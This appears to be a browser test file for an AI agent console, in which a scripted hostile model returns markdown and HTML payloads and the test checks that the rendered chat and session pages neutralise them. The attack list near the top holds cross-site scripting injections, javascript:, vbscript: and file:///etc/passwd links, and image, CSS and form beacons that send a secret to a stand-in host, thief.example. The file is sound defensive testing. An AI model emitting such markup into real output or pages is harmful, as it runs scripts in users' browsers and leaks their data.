/** Text of a model that attacks its reader: scripts, addresses that run code, and files of other hosts. `openPage` records every request to another host. */
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { defineAgent } from "../../src/define/agent.ts";
import { scriptedModel } from "../../src/testing/index.ts";
import { launchBrowser } from "../support/browser.ts";
import { openPage } from "./support/browser.ts";
import { type ConsoleServer, inBrowser, startConsole } from "./support/set-up.ts";

const attacks = [
  "[run](javascript:window.attacked=1)",
  "[data](data:text/html,<script>window.attacked=1</script>)",
  "[script](vbscript:msgbox) [file](file:///etc/passwd) <javascript:alert(1)>",
  "![pixel](https://thief.example/pixel.png?secret=1) ![relative](/agents?secret=1)",
  '<img src=x onerror="window.attacked=1">',
  '<script>window.attacked=1</script><svg onload="window.attacked=1"></svg>',
  '<iframe src="https://thief.example/"></iframe><object data="https://thief.example/"></object>',
  '<form action="https://thief.example/"><button>Give</button></form><link rel="stylesheet" href="https://thief.example/s.css">',
  "<style>body { background: url(https://thief.example/b.png) }</style>",
  '<a href="javascript:document.title=1" onclick="window.attacked=1" ping="https://thief.example/">raw</a>',
  '<p style="background: url(https://thief.example/p.png)" id="root">styled</p><base href="https://thief.example/">',
  "[site](https://site.example/page)",
].join("\n\n");

const mallory = defineAgent({ id: "mallory", name: "Mallory", model: scriptedModel(() => `${attacks}\n\nThe end.`) });

describe("hostile text of a model (skipped without Chromium: CHROMIUM_PATH)", inBrowser, () => {
  let browser: Browser;
  let served: ConsoleServer;

  beforeAll(async () => {
    [browser, served] = await Promise.all([launchBrowser(), startConsole({ agents: [mallory] })]);
    const body = new URLSearchParams({ message: attacks, session_id: "s", stream: "false" });
    expect((await fetch(`${served.url}/agents/mallory/runs`, { method: "POST", body })).status).toBe(200);
  });
  afterAll(async () => {
    await browser?.close();
    await served?.[Symbol.asyncDispose]();
  });

  test.each([
    ["the chat", "/chat/agent/mallory?session=s"],
    ["the session", "/sessions/s"],
  ])("%s runs no script, asks no other host, and links to web addresses only", async (_, path) => {
    const { page, check } = await openPage(browser, served.console + path);
    await page.getByText("The end.").last().waitFor();
    const found = await page.getByRole("main").evaluate((main) => ({
      links: [...main.querySelectorAll("a[href]")].map((link) => link.getAttribute("href") ?? ""),
      images: [...main.querySelectorAll("img")].map(({ src }) => src),
      // Mantine adds styles of its own, with the nonce of the page.
      foreign: [
        ...main.querySelectorAll(
          "script, iframe, object, form[action], link, style:not([data-mantine-styles]), base, #root, [onclick], [onerror], [ping]",
        ),
      ].map((element) => element.outerHTML),
    }));
    expect(found.links).toContain("https://site.example/page");
    expect(found.links.filter((href) => /^(?!https?:|\/)[a-z]+:/i.test(href))).toEqual([]);
    expect(found.images.filter((src) => !src.startsWith("data:"))).toEqual([]);
    expect(found.foreign).toEqual([]);
    expect(await page.evaluate("window.attacked")).toBeUndefined();
    check();
  });
});
